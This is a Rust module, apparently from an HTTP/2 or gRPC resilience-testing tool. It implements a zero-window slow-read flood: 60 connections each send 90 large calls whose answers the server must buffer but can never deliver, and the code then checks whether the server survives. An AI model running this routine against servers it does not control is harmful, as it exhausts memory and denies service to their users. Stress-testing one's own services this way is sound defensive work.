//! Calls whose answers are not read: the window is closed from the beginning.

use std::rc::Rc;

use anyhow::Context as _;
use tokio::task::JoinSet;

use crate::abuse::connection::{Connection, Ended};
use crate::abuse::frames::{self, END_HEADERS};
use crate::abuse::headers;
use crate::abuse::messages::framed;
use crate::abuse::target::Target;

/// SETTINGS_INITIAL_WINDOW_SIZE.
const WINDOW: u16 = 4;
const CONNECTIONS: usize = 60;
/// Below the streams that a connection may have.
const CALLS: u32 = 90;
/// The echo says it twice: an answer of 48 KiB.
const MESSAGE: usize = 24 * 1024;

pub(super) async fn answers(target: &Rc<Target>) -> anyhow::Result<()> {
    let mut deaf = JoinSet::new();
    for _ in 0..CONNECTIONS {
        let target = Rc::clone(target);
        deaf.spawn_local(async move { super::again(&target, of_one).await });
    }
    while let Some(ended) = deaf.join_next().await {
        ended.context("an attack broke")??;
    }
    Ok(())
}

async fn of_one(target: &Rc<Target>) -> Result<(), Ended> {
    let mut connection = Connection::open_http2(target, 1, &[(WINDOW, 0)]).await?;
    let block = headers::call(&target.spec.method, Some(&target.spec.token));
    let long = format!("{}{}", target.spec.parent, "x".repeat(MESSAGE));
    let body = framed(&long);
    for n in 0..CALLS {
        let stream = 1 + 2 * n;
        connection
            .send(&frames::headers(stream, END_HEADERS, &block))
            .await?;
        connection.send(&frames::data(stream, &body)).await?;
        target.throttle().await.map_err(|_| Ended)?;
    }
    connection.wait(target.end()).await?;
    target.note("still there");
    Err(Ended)
}
